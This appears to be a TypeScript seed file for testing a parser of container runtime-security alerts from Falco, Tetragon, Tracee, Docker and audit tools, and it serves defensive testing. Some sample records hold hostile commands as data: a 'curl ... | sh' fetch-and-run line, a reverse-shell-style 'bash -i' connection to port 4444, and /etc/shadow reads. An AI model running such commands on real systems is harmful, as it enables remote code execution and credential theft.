/** What is mutated: records of every shape that is read, by hand, and recordings of real sensors where they are there. */
import { existsSync, readdirSync, readFileSync } from "node:fs";
import { fileURLToPath } from "node:url";
import { samples } from "../sources/samples.ts";
import { samples as shapes } from "../sources/shapes.ts";

export interface Seed {
  readonly name: string;
  readonly value: unknown;
  readonly headers: Readonly<Record<string, string>>;
}

export interface Seeds {
  readonly own: readonly Seed[];
  /** Empty where the recordings are absent. */
  readonly recorded: readonly Seed[];
}

const time = "2026-01-05T10:00:00.123456789Z";
const container = "3f2a9c0d1e4b5a6978877665544332211000ffeeddccbbaa9988776655443322";

const more: Readonly<Record<string, unknown>> = {
  native: {
    id: "n1",
    timestamp: time,
    container_id: container,
    type: "network_connection",
    severity: "high",
    source: "agent",
    details: { dst_ip: "10.0.0.7", dst_port: 443, command_line: "curl -s http://198.51.100.7/x | sh" },
    enrichment: { namespace: "shop", pod: "web-1", image: "nginx:1.25" },
  },
  falco: {
    uuid: "8c3f1c7e-0b3a-4f3c-9d2e-1a2b3c4d5e6f",
    output: "10:00:00.123: Notice A shell was spawned (user=root container_id=3f2a9c0d1e4b shell=bash)",
    priority: "Notice",
    rule: "Terminal shell in container",
    time,
    source: "syscall",
    hostname: "node-1",
    tags: ["container", "shell", "mitre_execution"],
    output_fields: {
      "container.id": "3f2a9c0d1e4b",
      "container.image.repository": "docker.io/library/nginx",
      "container.image.tag": "1.25",
      "evt.time": 1767607200123456789n,
      "fd.name": "10.0.0.5:43812->198.51.100.7:4444",
      "fd.rip": "198.51.100.7",
      "fd.rport": 4444,
      "k8s.ns.name": "shop",
      "k8s.pod.name": "web-1",
      "proc.cmdline": "bash -i",
      "proc.name": "bash",
      "proc.pname": "nginx",
      "proc.tty": 34816,
      "user.name": "root",
      "user.uid": 0,
    },
  },
  "falco degraded": {
    output:
      "10:00:00.123456789: Warning Sensitive file opened (user=root file=/etc/shadow container=3f2a9c0d1e4b)",
    priority: "Warning",
    rule: "Read sensitive file untrusted",
    time,
  },
  tetragon: {
    process_kprobe: {
      process: {
        exec_id: "bm9kZS0xOjEyMzQ1Njc4OTA6NDI=",
        pid: 42,
        uid: 0,
        cwd: "/",
        binary: "/usr/bin/curl",
        arguments: "-s http://198.51.100.7/x",
        flags: "execve rootcwd clone",
        start_time: time,
        auid: 1000,
        pod: {
          namespace: "shop",
          name: "web-1",
          workload: "web",
          workload_kind: "Deployment",
          container: {
            id: `containerd://${container}`,
            name: "web",
            image: { id: "docker.io/library/nginx@sha256:aa", name: "nginx:1.25" },
            start_time: time,
            pid: 7,
          },
          pod_labels: { app: "web" },
        },
        docker: container.slice(0, 31),
        parent_exec_id: "bm9kZS0xOjEyMzQ1Njc4OTA6MQ==",
      },
      parent: { exec_id: "x", pid: 1, binary: "/usr/bin/sh" },
      function_name: "tcp_connect",
      args: [
        {
          sock_arg: {
            family: "AF_INET",
            protocol: "IPPROTO_TCP",
            daddr: "198.51.100.7",
            dport: 443,
            cookie: "1",
          },
        },
        { file_arg: { path: "/etc/shadow", flags: "" } },
        { size_arg: "18446744073709551615" },
      ],
      return: { int_arg: -1 },
      action: "KPROBE_ACTION_POST",
      policy_name: "connect",
    },
    node_name: "node-1",
    cluster_name: "c1",
    time,
  },
  "tetragon throttle": { process_throttle: { type: "THROTTLE_START", cgroup: "x" }, node_name: "n", time },
  tracee: {
    timestamp: 1767607200123456789n,
    threadStartTime: 1767607200123456000n,
    processorId: 1,
    processId: 42,
    cgroupId: 4321,
    userId: 0,
    mountNamespace: 4026531840,
    processName: "bash",
    executable: { path: "/usr/bin/bash" },
    hostName: "node-1",
    containerId: container,
    container: { id: container, name: "web", image: "nginx:1.25", imageDigest: "sha256:aa" },
    kubernetes: { podName: "web-1", podNamespace: "shop", podUID: "u" },
    eventId: "6001",
    eventName: "anti_debugging",
    argsNum: 2,
    returnValue: 0,
    args: [
      { name: "pathname", type: "const char*", value: "/bin/sh" },
      {
        name: "sockaddr",
        type: "struct sockaddr*",
        value: { sa_family: "AF_INET", sin_addr: "1.2.3.4", sin_port: "80" },
      },
    ],
    metadata: { Version: "1", Description: "d", Tags: ["t"], Properties: { Severity: 3, Category: "x" } },
  },
  "docker event": {
    status: "exec_create: sh -c id",
    id: container,
    from: "nginx:1.25",
    Type: "container",
    Action: "exec_create: sh -c id",
    Actor: { ID: container, Attributes: { image: "nginx:1.25", name: "web", exitCode: "137", execID: "x" } },
    scope: "local",
    time: 1767607200,
    timeNano: 1767607200123456789n,
  },
  "go-audit": {
    sequence: 42,
    timestamp: "1767607200.123",
    messages: [
      {
        type: 1300,
        data: 'arch=c000003e syscall=59 success=yes exit=0 a0=55d1 pid=11 auid=1000 comm="curl"',
      },
      { type: "1309", data: 'argc=2 a0="curl" a1=2D73' },
    ],
    uid_map: { "0": "root" },
  },
  auditbeat: {
    "@timestamp": time,
    auditd: {
      message_type: "syscall",
      sequence: 42,
      result: "success",
      data: { syscall: "execve", a0: "1" },
    },
    process: { pid: 42, name: "curl", executable: "/usr/bin/curl", args: ["curl", "-s"] },
    user: { audit: { id: "1000" }, id: "0", name: "root" },
    agent: { type: "auditbeat" },
    host: { name: "node-1" },
  },
  "list of all": [{ type: "a", timestamp: time }, { rule: "r", time, output_fields: {} }, "text", 7, null],
  unmapped: { event: "Drop And Execute", ts: 1767607200.5, user: "ann", host: { name: "h" } },
};

const recordings = fileURLToPath(new URL("../../../shared/data/", import.meta.url));
const lineFiles = [
  "falco/website-alerts.jsonl",
  "falco/plugins-readme-alerts.jsonl",
  "tetragon/docs-events.jsonl",
  "tracee/docs-events.jsonl",
  "k8s-audit/k8s-audit-pod-exec-file.jsonl",
  "k8s-audit/k8s-audit-priv-pod-file.jsonl",
];

/** In an order that does not change. */
export function seeds(): Seeds {
  const own = samples.map(({ as: name, value, headers = {} }) => ({ name, value, headers }));
  const rich = Object.entries({ ...shapes, ...more }).map(([name, value]) => ({ name, value, headers: {} }));
  return { own: [...own, ...rich], recorded: recorded() };
}

function recorded(): readonly Seed[] {
  const traces = `${recordings}k8s-audit/falco-trace-files`;
  const texts = [
    ...lineFiles.flatMap((file) => textsOf(recordings + file)),
    ...(existsSync(traces) ? readdirSync(traces) : []).sort().flatMap((file) => textsOf(`${traces}/${file}`)),
  ];
  return texts.map((text, index) => ({ name: `recording ${index}`, value: JSON.parse(text), headers: {} }));
}

/** None where there is no recording. */
function textsOf(file: string): readonly string[] {
  return existsSync(file) ? readFileSync(file, "utf8").split("\n").filter(Boolean) : [];
}
